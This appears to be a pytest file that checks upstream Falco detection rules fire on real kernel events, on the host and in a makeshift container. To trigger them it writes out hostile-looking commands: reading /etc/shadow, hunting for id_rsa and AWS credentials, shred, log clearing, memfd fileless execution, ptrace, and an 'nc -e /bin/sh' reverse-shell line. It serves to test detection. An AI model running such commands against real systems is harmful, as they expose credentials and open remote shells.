"""Upstream Falco rules firing on real kernel events: `sysgram run` with the stable falco_rules.yaml, real
actions (a sensitive read, a shell under a web server, links over /etc/shadow, ptrace, memfd execution...),
and in a container-like process (its own pid namespace and a docker-named cgroup v2), the container rules
(a packet socket, stdout to a socket, nc -e, a terminal shell, a binary dropped in an overlayfs upper layer).

Every action happens in a fresh temp dir whose random name marks the alerts it causes: the host's other
processes raise alerts too, and those are ignored. Nothing harmful: the hard link and the module load fail
on purpose, the "log" that gets truncated is a temp file, and every file made is removed.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import SHARED, docker_named_cgroup, requires_bpf, start_sysgram

pytestmark = [requires_bpf, pytest.mark.bpf]

UPSTREAM = SHARED / "falco-rules" / "falco_rules.yaml"
PY = sys.executable

PTRACE_ATTACH = """
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()
if child == 0:
    time.sleep(1.0)
    os._exit(0)
assert libc.ptrace(16, child, 0, 0) == 0  # PTRACE_ATTACH
os.waitpid(child, 0)
libc.ptrace(17, child, 0, 0)  # PTRACE_DETACH
os.waitpid(child, 0)
"""
PTRACE_TRACEME = """
import ctypes
assert ctypes.CDLL(None, use_errno=True).ptrace(0, 0, 0, 0) == 0  # PTRACE_TRACEME
"""
MEMFD_EXEC = """
import os, sys
fd = os.memfd_create("payload")  # close-on-exec, as fileless loaders make it
with open("/bin/true", "rb") as f:
    os.write(fd, f.read())
child = os.fork()
if child == 0:
    os.execve(fd, ["fileless", sys.argv[1]], {})  # execveat(fd, "", AT_EMPTY_PATH)
os.waitpid(child, 0)
"""
SSH_CONNECT = """
import socket
s = socket.socket()
s.setblocking(False)
try:
    s.connect(("192.0.2.1", 443))  # TEST-NET-1: never answers; the connect is only EINPROGRESS
except BlockingIOError:
    pass
s.close()
"""
# Runs as the first process of the "container": pid 1 of its own pid namespace, in a docker-named cgroup.
IN_CONTAINER = """
import ctypes, os, shutil, socket, subprocess, sys, tempfile, time
work = sys.argv[1]
time.sleep(1.5)  # stay alive while the agent re-reads /proc for our exec (that is where the cgroup is read)
socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(1)
child = os.fork()
if child == 0:
    conn = socket.create_connection(server.getsockname())
    os.dup2(conn.fileno(), 1)  # stdout to a network connection
    os._exit(0)
os.waitpid(child, 0)
shutil.copy("/bin/true", work + "/nc")
subprocess.run([work + "/nc", "-e", "/bin/sh", "203.0.113.5", "4444"])
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(313, -1, b"", 0)  # finit_module on a bad fd: EBADF (or ENOSYS), nothing is loaded
open(work + "/release_agent", "w").close()
# A shell on a terminal under a runtime-named parent (a bash copy called runc), as `docker exec -it` makes.
import fcntl, pty, termios
_master, tty = pty.openpty()
shutil.copy("/bin/bash", work + "/runc")
subprocess.run([work + "/runc", "-c", "/bin/sh -c 'sleep 1'; sleep 0.5"], stdin=tty, stdout=tty, stderr=tty,
               start_new_session=True, preexec_fn=lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 0))
# A program written in the container's (overlayfs) upper layer, then run. The overlay lives in a private
# mount namespace on top of a read-only view of /: nothing reaches the host's files.
layers = tempfile.mkdtemp(dir="/dev/shm", prefix="sysgram-ovl-")
for d in ("upper", "work", "merged"):
    os.mkdir(f"{layers}/{d}")
script = (f"mount -t overlay overlay -o lowerdir=/,upperdir={layers}/upper,workdir={layers}/work "
          f"{layers}/merged && exec chroot {layers}/merged /bin/sh -c "
          f"'cp /bin/sleep /tmp/dropped-{os.path.basename(work)} && /tmp/dropped-{os.path.basename(work)} 1.5'")
try:
    subprocess.run(["unshare", "--mount", "--propagation", "private", "sh", "-c", script])
finally:
    shutil.rmtree(layers, ignore_errors=True)
time.sleep(0.5)
"""


def _run(args: list[str], **kw: Any) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60, **kw)


def _kernel_has_modules() -> bool:
    return any(
        os.path.exists(f"{tracing}/events/syscalls/sys_exit_finit_module")
        for tracing in ("/sys/kernel/tracing", "/sys/kernel/debug/tracing")
    )


def _host_actions(work: Path, pids: dict[str, int]) -> None:
    cat = subprocess.Popen(["cat", "/etc/shadow"], stdout=subprocess.DEVNULL)
    assert cat.wait(timeout=60) == 0
    pids["cat"] = cat.pid
    httpd = work / "httpd"  # a web server that runs a shell
    shutil.copy("/bin/bash", httpd)
    _run([str(httpd), "-c", "/bin/sh -c 'echo served'; true"])
    _run(["ln", "-s", "/etc/shadow", str(work / "shadow-link")])
    _run(["ln", "/etc/shadow", str(work / "no-such-dir" / "shadow-hardlink")])  # fails: ENOENT
    shm = Path("/dev/shm") / f"{work.name}-true"
    shutil.copy("/bin/true", shm)
    try:
        _run([str(shm)])
    finally:
        shm.unlink()
    _run([PY, "-c", MEMFD_EXEC, work.name])
    _run(["find", str(work), "-name", "id_rsa"])
    _run(["find", str(work), "-path", "*/.aws/credentials"])
    data = work / "data"
    data.write_text("secret\n" * 100)
    _run(["shred", str(data)])
    log = work / "auth.log"
    log.write_text("old entries\n")
    _run([PY, "-c", "import sys; open(sys.argv[1], 'w').close()", str(log)])
    attach = subprocess.Popen([PY, "-c", PTRACE_ATTACH, work.name])
    traceme = subprocess.Popen([PY, "-c", PTRACE_TRACEME, work.name])
    ssh = subprocess.Popen(["ssh", "-c", SSH_CONNECT, work.name], executable=PY)  # argv[0] (proc.exe) is ssh
    for name, proc in (("ptrace_attach", attach), ("traceme", traceme), ("ssh", ssh)):
        assert proc.wait(timeout=60) == 0, name
        pids[name] = proc.pid
    # Not from a shell (the rule spares shells): python opens /etc/hostname through ../../..
    _run([PY, "-c", "import sys; open(sys.argv[1]).read()", f"{work}/../../../etc/hostname"])


def _container_actions(work: Path) -> str | None:
    """The container rules' actions, in a process in its own pid namespace and docker-named cgroup (v2)."""
    unshare = shutil.which("unshare")
    if unshare is None:
        return None
    with docker_named_cgroup() as made:
        if made is None:
            return None
        container_id, cgroup = made
        # Like a runtime: move the forked child into the container's cgroup, then exec the entry point.
        script = (
            f'echo $$ > {cgroup}/cgroup.procs && exec {unshare} --fork --pid --mount-proc "$0" -c "$1" "$2"'
        )
        done = _run(["sh", "-c", script, PY, IN_CONTAINER, str(work)])
        assert done.returncode == 0
    return container_id


@pytest.fixture(scope="module")
def live() -> Iterator[tuple[Path, list[dict[str, Any]], dict[str, int], str | None]]:
    base = Path(tempfile.mkdtemp(prefix="sysgram-rules-live-"))
    try:
        yield _run_agent_and_act(base)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def _run_agent_and_act(base: Path) -> tuple[Path, list[dict[str, Any]], dict[str, int], str | None]:
    """Start `sysgram run` with the stable rules, act, stop it; the alerts it wrote."""
    work = base / f"act-{secrets.token_hex(6)}"
    work.mkdir()
    alerts = base / "alerts.jsonl"
    agent = start_sysgram(
        "run", "--no-model", "--no-default-rules", "--rules", str(UPSTREAM),
        "--alerts-jsonl", str(alerts), "--state-dir", str(base / "state"), "--quiet",
    )
    pids: dict[str, int] = {}
    container_id = None
    try:
        _host_actions(work, pids)
        container_id = _container_actions(work)
        time.sleep(1.0)  # let the agent drain what the kernel has already sent
    finally:
        agent.send_signal(signal.SIGINT)
        _, err = agent.communicate(timeout=120)
    assert agent.returncode == 0, err
    records = [json.loads(line) for line in alerts.read_text().splitlines()] if alerts.exists() else []
    return work, records, pids, container_id


Check = Callable[[dict[str, Any], Path, dict[str, int]], bool]


def _cmd(f: dict[str, Any]) -> str:
    return str(f.get("proc.cmdline") or "")


HOST_RULES: list[tuple[str, Check]] = [
    ("Read sensitive file untrusted",
     lambda f, w, p: f["fd.name"] == "/etc/shadow" and f["proc.name"] == "cat" and f["proc.pid"] == p["cat"]),
    ("Run shell untrusted",
     lambda f, w, p: f["proc.name"] == "sh" and f["proc.pname"] == "httpd"
     and f["proc.pexepath"] == f"{w}/httpd"),
    ("Create Symlink Over Sensitive Files",
     lambda f, w, p: f["evt.arg.target"] == "/etc/shadow" and f["evt.arg.linkpath"] == f"{w}/shadow-link"),
    ("Create Hardlink Over Sensitive Files",
     lambda f, w, p: f["evt.arg.oldpath"] == "/etc/shadow"
     and f["evt.arg.newpath"] == f"{w}/no-such-dir/shadow-hardlink"),
    ("Execution from /dev/shm",
     lambda f, w, p: f["proc.exepath"] == f"/dev/shm/{w.name}-true" and f["evt.type"] == "execve"),
    ("Fileless execution via memfd_create",
     # the kernel names a program exec'd through a memfd after the memfd: comm "memfd:payload"
     lambda f, w, p: _cmd(f) == f"memfd:payload {w.name}" and f["evt.type"] == "execveat"
     and "EXE_FROM_MEMFD" in f["evt.arg.flags"]),
    ("Search Private Keys or Passwords",
     lambda f, w, p: f["proc.name"] == "find" and _cmd(f) == f"find {w} -name id_rsa"),
    ("Find AWS Credentials",
     lambda f, w, p: f["proc.name"] == "find" and _cmd(f) == f"find {w} -path */.aws/credentials"),
    ("Remove Bulk Data from Disk",
     lambda f, w, p: f["proc.name"] == "shred" and _cmd(f) == f"shred {w}/data"),
    ("Clear Log Activities",
     lambda f, w, p: f["fd.name"] == f"{w}/auth.log" and f["evt.type"] in ("open", "openat")),
    ("PTRACE attached to process",
     lambda f, w, p: f["proc.pid"] == p["ptrace_attach"] and f["evt.type"] == "ptrace"),
    ("PTRACE anti-debug attempt",
     lambda f, w, p: f["proc.pid"] == p["traceme"] and f["evt.type"] == "ptrace"),
    ("Disallowed SSH Connection Non Standard Port",
     lambda f, w, p: f["proc.pid"] == p["ssh"] and f["fd.name"].endswith("->192.0.2.1:443")
     and f["fd.l4proto"] == "tcp"),
    ("Directory traversal monitored file read",
     lambda f, w, p: f["fd.name"] == "/etc/hostname" and f["fd.nameraw"] == f"{w}/../../../etc/hostname"),
]
CONTAINER_RULES: list[tuple[str, Check]] = [
    ("Packet socket created in container",
     lambda f, w, p: str(w) in _cmd(f) and f["evt.type"] == "socket"),
    ("Redirect STDOUT/STDIN to Network Connection in Container",
     lambda f, w, p: str(w) in _cmd(f) and f["fd.type"] == "ipv4" and f["evt.type"] in ("dup2", "dup3")),
    ("Netcat Remote Code Execution in Container",
     lambda f, w, p: f["proc.name"] == "nc" and _cmd(f).startswith("nc -e /bin/sh")),
    ("Linux Kernel Module Injection Detected",
     lambda f, w, p: str(w) in _cmd(f) and f["evt.type"] == "finit_module"),
    ("Detect release_agent File Container Escapes",
     lambda f, w, p: f["fd.name"] == f"{w}/release_agent"),
    ("Terminal shell in container",
     lambda f, w, p: f["proc.name"] == "sh" and f["proc.pname"] == "runc" and f["proc.tty"] != 0),
    ("Drop and execute new binary in container",
     lambda f, w, p: f["proc.exe"] == f"/tmp/dropped-{w.name}" and "EXE_UPPER_LAYER" in f["evt.arg.flags"]),
]


def _find(records: list[dict[str, Any]], rule: str, check: Check, work: Path, pids: dict[str, int]) -> list[
        dict[str, Any]]:
    found = []
    for r in records:
        if r["rule"] != rule:
            continue
        try:
            if check(r["output_fields"], work, pids):
                found.append(r)
        except (KeyError, TypeError):
            continue
    return found


@pytest.mark.parametrize("rule,check", HOST_RULES, ids=[r for r, _ in HOST_RULES])
def test_upstream_host_rule_fires_on_a_real_action(
    live: tuple[Path, list[dict[str, Any]], dict[str, int], str | None], rule: str, check: Check
) -> None:
    work, records, pids, _ = live
    found = _find(records, rule, check, work, pids)
    mine = [r["output"] for r in records if r["rule"] == rule][:3]
    assert found, f"no {rule!r} alert for our action; alerts of that rule: {mine}"
    assert all("maturity_stable" in r["tags"] for r in found)  # the upstream rule's own tags


@pytest.mark.parametrize("rule,check", CONTAINER_RULES, ids=[r for r, _ in CONTAINER_RULES])
def test_upstream_container_rule_fires_in_a_container(
    live: tuple[Path, list[dict[str, Any]], dict[str, int], str | None], rule: str, check: Check
) -> None:
    work, records, pids, container_id = live
    if container_id is None:
        pytest.skip("no writable cgroup v2 hierarchy or no unshare(1) here")
    if rule == "Linux Kernel Module Injection Detected" and not _kernel_has_modules():
        pytest.skip("this kernel is built without module support: finit_module has no tracepoint")
    found = _find(records, rule, check, work, pids)
    mine = [r["output"] for r in records if r["rule"] == rule][:3]
    assert found, f"no {rule!r} alert for our action in the container; alerts of that rule: {mine}"


def test_our_host_actions_raise_no_container_rule(
    live: tuple[Path, list[dict[str, Any]], dict[str, int], str | None],
) -> None:
    work, records, pids, _ = live
    container_rules = {r for r, _ in CONTAINER_RULES}
    ours = {pids["cat"], pids["ptrace_attach"], pids["traceme"], pids["ssh"]}
    assert not [r for r in records if r["rule"] in container_rules and r["output_fields"].get("proc.pid") in ours]
    assert os.path.isdir(work)  # the fixture keeps the work dir until every test has read it
